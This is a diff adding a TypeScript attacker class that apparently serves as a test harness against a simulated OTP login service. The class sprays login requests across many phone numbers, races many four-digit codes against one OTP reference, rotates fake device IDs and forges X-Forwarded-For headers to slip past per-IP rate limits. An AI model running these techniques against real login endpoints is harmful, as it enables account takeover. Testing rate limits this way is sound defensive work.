@@ -1,0 +1,88 @@
+import type { Client, Reply } from '../world/client.ts'
+
+/** What an attacker got out of the academy. */
+export type Loot = {
+  /** Codes that the server compared, by number. */
+  compared: Map<string, number>
+  /** Accounts taken over. */
+  taken: Set<string>
+  texts: number
+  refused: number
+  /** References on which more than one code was compared. */
+  triedTwice: number
+  /** Answers that are none of the refusals that were announced. */
+  odd: number
+}
+
+/** Calls as they come from ever new machines: the proxy says which one it is. */
+export class Attacker {
+  readonly loot: Loot = { compared: new Map(), taken: new Set(), texts: 0, refused: 0, triedTwice: 0, odd: 0 }
+  readonly #lines: Client[]
+  readonly #chance: () => number
+  #calls = 0
+
+  constructor(lines: Client[], chance: () => number) {
+    this.#lines = lines
+    this.#chance = chance
+  }
+
+  /** Asks for a code of each number and tries one; true when all were refused already at the asking. */
+  async spray(mobiles: string[]): Promise<boolean> {
+    const asked = await Promise.all(mobiles.map((mobile) => this.#ask(mobile)))
+    const open = asked.flatMap((ref, index) => (ref === null ? [] : [{ ref, mobile: mobiles[index] ?? '' }]))
+    await Promise.all(open.map(({ ref, mobile }) => this.#try(ref, mobile, this.#anyCode())))
+    return open.length === 0
+  }
+
+  /** Asks for one code and tries so many at once. */
+  async race(mobile: string, tries: number): Promise<void> {
+    const ref = await this.#ask(mobile)
+    if (ref === null) return
+    const first = Math.floor(this.#chance() * 10_000)
+    const codes = Array.from({ length: tries }, (_, index) => String((first + index) % 10_000).padStart(4, '0'))
+    const judged = await Promise.all(codes.map((code) => this.#try(ref, mobile, code)))
+    if (judged.filter(Boolean).length > 1) this.loot.triedTwice += 1
+  }
+
+  async #ask(mobile: string): Promise<string | null> {
+    const device_id = `id_${this.#hex()}${this.#hex()}${this.#hex()}${this.#hex()}`
+    const answer = await this.#post('/Auth/login', { mobile, phone_code: '91', device_id })
+    if (answer.status !== 200) return null
+    this.loot.texts += 1
+    return (answer.data as { otp_ref: string }).otp_ref
+  }
+
+  /** True when the code was compared. */
+  async #try(otp_ref: string, mobile: string, otp: string): Promise<boolean> {
+    const answer = await this.#post('/Auth/verifyOTP', { otp_ref, otp })
+    const isRight = answer.status === 200
+    if (isRight) this.loot.taken.add(mobile)
+    const isJudged = isRight || (answer.data as { reason?: string }).reason === 'wrong_code'
+    if (isJudged) this.loot.compared.set(mobile, (this.loot.compared.get(mobile) ?? 0) + 1)
+    return isJudged
+  }
+
+  async #post(path: string, body: object): Promise<Reply> {
+    this.#calls += 1
+    const line = this.#lines[this.#calls % this.#lines.length]
+    if (!line) throw new Error('There is no server to attack.')
+    // What the attacker's own machine says comes before what the proxy says of it.
+    const forged = `127.0.0.1, ${this.#address()}`
+    const answer = await line.post(path, body, '', { 'x-forwarded-for': forged })
+    if (answer.status === 429) this.loot.refused += 1
+    if (![200, 422, 429, 503].includes(answer.status)) this.loot.odd += 1
+    return answer
+  }
+
+  readonly #below = (most: number) => Math.floor(this.#chance() * most)
+  readonly #hex = () =>
+    this.#below(2 ** 32)
+      .toString(16)
+      .padStart(8, '0')
+  readonly #anyCode = () => String(this.#below(10_000)).padStart(4, '0')
+  /** Half of them are of IPv6, where addresses are free. */
+  readonly #address = () =>
+    this.#chance() < 0.5
+      ? `100.${64 + this.#below(64)}.${this.#below(256)}.${this.#below(256)}`
+      : `2001:db8:${this.#below(65_536).toString(16)}:${this.#below(65_536).toString(16)}::1`
+}
